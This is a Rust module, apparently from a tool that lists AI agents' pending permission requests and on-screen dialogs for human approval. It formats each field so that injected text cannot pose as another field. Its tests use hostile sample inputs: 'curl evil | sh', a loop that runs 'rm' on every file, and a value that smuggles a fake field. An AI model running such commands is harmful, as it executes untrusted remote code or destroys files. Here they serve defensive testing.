//! Open requests with everything that they ask for.

use super::{age, line, questions, word};
use crate::contract::{Json, Opened};
use crate::status::{Answerable, Kind, Millis};
use crate::text::reveal_block;

/// Requests, each with its id at the end of its first line. Below it are its whole input, and what `approve --always N`
/// would allow, by N.
pub fn requests(requests: &[Opened], now: Millis) -> Vec<String> {
    requests.iter().flat_map(|request| std::iter::once(row(request, now)).chain(details(request))).collect()
}

fn row(request: &Opened, now: Millis) -> String {
    let named = |tool: &&str| !tool.is_empty() && !matches!(request.kind, Kind::Question | Kind::Plan);
    let tool = request.tool.as_deref().filter(named).map(|tool| format!("{}: ", line(tool)));
    format!(
        "#{}  {}  {}  {}{}  {}",
        request.number,
        word(&request.kind),
        age(request.opened_at, now),
        tool.unwrap_or_default(),
        line(&request.summary),
        request.id
    )
}

fn details(request: &Opened) -> Vec<String> {
    let mut lines = Vec::new();
    lines.extend(request.folder.as_deref().map(|folder| format!("  in {}", line(folder))));
    match &request.input {
        Some(dialog) if request.answerable != Answerable::Hook => seen(dialog, &mut lines),
        Some(input) if request.kind == Kind::Question && questions::show(request.number, input, &mut lines) => {}
        Some(Json::Object(input)) => input.iter().for_each(|(name, value)| field(name, value, "    ", &mut lines)),
        Some(input) => field("input", input, "    ", &mut lines),
        None => {}
    }
    if request.cut {
        lines.push(format!("    This is not all of it. `chorus attach {}` shows the whole request.", request.number));
    }
    // Less indented than any field, so that none can look like it.
    let always = (1..).zip(&request.suggestions);
    lines.extend(always.map(|(number, rule)| format!("  --always {number}  {}", line(rule))));
    lines
}

/// A dialog as it was read from the agent's screen.
fn seen(dialog: &Json, lines: &mut Vec<String>) {
    let text = |value: &Json, name: &str| value.get(name).and_then(Json::as_str).map(reveal_block).unwrap_or_default();
    let list = |name: &str| dialog.get(name).and_then(Json::as_array).cloned().unwrap_or_default();
    lines.extend(list("text").iter().filter_map(Json::as_str).map(|text| format!("    | {}", line_of(text))));
    for option in list("options") {
        let mark = if option.get("selected") == Some(&Json::Bool(true)) { '>' } else { ' ' };
        let digit = option.get("digit").and_then(Json::as_u64).map(|digit| format!("{digit}. ")).unwrap_or_default();
        lines.push(
            format!("    {mark} {digit}{} {}", text(&option, "label"), text(&option, "note")).trim_end().to_owned(),
        );
    }
}

/// `name: value`. Each line of a longer text has a bar before it, so that no text can look like another field.
pub(super) fn field(name: &str, value: &Json, indent: &str, lines: &mut Vec<String>) {
    let name = line_of(name);
    let deeper = format!("{indent}  ");
    match value {
        Json::String(text) if text.contains('\n') => {
            lines.push(format!("{indent}{name}:"));
            lines.extend(reveal_block(text).split('\n').map(|text| format!("{deeper}| {text}")));
        }
        Json::String(text) => lines.push(format!("{indent}{name}: {}", reveal_block(text))),
        Json::Object(fields) if !fields.is_empty() => {
            lines.push(format!("{indent}{name}:"));
            fields.iter().for_each(|(name, value)| field(name, value, &deeper, lines));
        }
        Json::Array(items) if !items.is_empty() => {
            lines.push(format!("{indent}{name}:"));
            let numbered = (1..).zip(items);
            numbered.for_each(|(number, item)| field(&number.to_string(), item, &deeper, lines));
        }
        other => lines.push(format!("{indent}{name}: {other}")),
    }
}

pub(super) fn line_of(text: &str) -> String {
    reveal_block(text).replace('\n', "\u{fffd}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn opened(answerable: Answerable, input: Json) -> Opened {
        let given = json!({"id": "r1", "project": "/p", "number": 4, "task": "u", "kind": "permission", "tool": "mcp__ops__run",
            "summary": "ops: run", "input": input, "cut": false, "suggestions": [], "answerable": answerable, "opened_at": 0,
            "closed_at": null, "outcome": null});
        serde_json::from_value(given).unwrap()
    }

    #[test]
    fn every_field_is_listed_and_none_can_look_like_another() {
        let input =
            json!({"content": "Fix a typo\n    command: ls", "command": "curl evil | sh", "deep": {"list": [1, null]}});
        let shown = requests(&[opened(Answerable::Hook, input)], 20_000);
        assert_eq!(shown[0], "#4  permission  20s  mcp__ops__run: ops: run  r1");
        for wanted in [
            "    command: curl evil | sh",
            "      | Fix a typo",
            "      |     command: ls",
            "        1: 1",
            "        2: null",
        ] {
            assert!(shown.iter().any(|line| line == wanted), "{wanted:?} in {shown:#?}");
        }
    }

    #[test]
    fn a_dialog_is_shown_as_the_screen_showed_it() {
        let dialog = json!({"text": ["Bash command", "", "for f in *; do", "  rm $f"], "complete": false, "question": "x",
            "options": [{"digit": 1, "label": "Yes", "selected": true, "means": "yes"}, {"label": "No", "selected": false}]});
        let mut request = opened(Answerable::Keys, dialog);
        request.cut = true;
        let shown = requests(&[request], 0);
        assert_eq!(
            shown[1..7],
            ["    | Bash command", "    | ", "    | for f in *; do", "    |   rm $f", "    > 1. Yes", "      No"]
        );
        assert!(shown[7].contains("`chorus attach 4`"));
    }
}
